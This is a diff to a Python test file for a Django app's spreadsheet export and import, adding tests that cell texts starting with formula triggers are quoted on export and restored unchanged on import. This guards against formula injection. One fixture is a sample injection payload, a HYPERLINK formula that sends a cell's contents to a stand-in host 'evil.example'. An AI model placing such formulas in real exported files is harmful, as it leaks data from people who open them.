@@ -1,6 +1,7 @@
 """The import reads what the export writes: an export imported back restores changed records
 exactly and recreates deleted ones as drafts, from CSV and from the same file saved by Excel as
-.xlsx; an unchanged export, or the same file twice, changes nothing (cooperation/imports/)."""
+.xlsx, texts that look like formulas too (quoted in the file, as they were once imported); an
+unchanged export, or the same file twice, changes nothing (cooperation/imports/)."""
 
 import datetime
 import io
@@ -97,13 +98,49 @@ def mutate(name):
         Citation.objects.for_object(meeting).delete()
 
 
+# Texts a spreadsheet program would run as formulas ------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+# The record of each list that mutate() changes, and texts for the fields it changes: each
+# begins with a formula trigger, or with quotes and one.
+FORMULA_TEXTS = {
+    "partners": (
+        "iom",
+        {
+            "name": HYPERLINK,
+            "acronym": "+IOM",
+            "headquarters": "-Geneva",
+            "other_names": "@first\n'=second",
+            "description": "'=quoted\nsecond line",
+        },
+    ),
+    "agreements": ("cooperation-1999", {"title": "=1+1", "legal_notes": "''+x", "signed_place": "@Baku"}),
+    "projects": ("unimig", {"title": "-Capacity building", "short_title": "'@UNIMIG", "phase": "+II"}),
+    "meetings": ("geneva-2016", {"title": "@Geneva", "city": "=Geneva", "participants_note": "'-SMS"}),
+}
+
+
+def give_formula_texts(name, texts=None):
+    slug, fields = FORMULA_TEXTS[name]
+    record = LISTS[name].objects.get(slug=slug)
+    for field, value in (texts or fields).items():
+        setattr(record, field, value)
+    record.save()
+
+
 @pytest.mark.parametrize("file_format", ["csv", "xlsx"])
 @pytest.mark.parametrize("name", LISTS)
 def test_an_export_imported_back_restores_changed_records_exactly(client, name, file_format):
     seed_like()
+    give_formula_texts(name)
     model = LISTS[name]
     before = snapshot(model)
     original = export_csv(client, name)
+    # Texts a spreadsheet program would run as formulas go out quoted, and come back as they were.
+    cells = [cell for row in csv_cells(original) for cell in row]
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
+    assert {"'" + value for value in FORMULA_TEXTS[name][1].values() if "\n" not in value} <= set(cells)
     mutate(name)
     assert snapshot(model) != before
     data = as_excel_would(original) if file_format == "xlsx" else original
@@ -193,3 +230,17 @@ def test_the_second_import_of_the_same_file_changes_nothing():
     assert dict(Partner.objects.values_list("slug", "updated_at")) == stamps
     assert Partner.history.count() == history
     assert LogEntry.objects.count() == entries
+
+
+@pytest.mark.parametrize("name", LISTS)
+def test_texts_that_begin_with_a_tab_or_a_line_break_go_out_quoted_and_read_back_unchanged(client, name):
+    # The import compares and saves text without the spaces around it (docs/data-format.md), so
+    # what matters is that such a text is quoted and its record found unchanged.
+    seed_like()
+    field = {"partners": "description", "agreements": "legal_notes"}.get(name, "description")
+    give_formula_texts(name, {field: "\t=1+1\r\n\r=2+2"})
+    data = export_csv(client, name)
+    column = csv_cells(data)[0].index(field)
+    assert "'\t=1+1\r\n\r=2+2" in [row[column] for row in csv_cells(data)]
+    plan = plan_import(LISTS[name], read_table(f"{name}.csv", data), publisher())
+    assert {row.action for row in plan.rows} == {UNCHANGED}
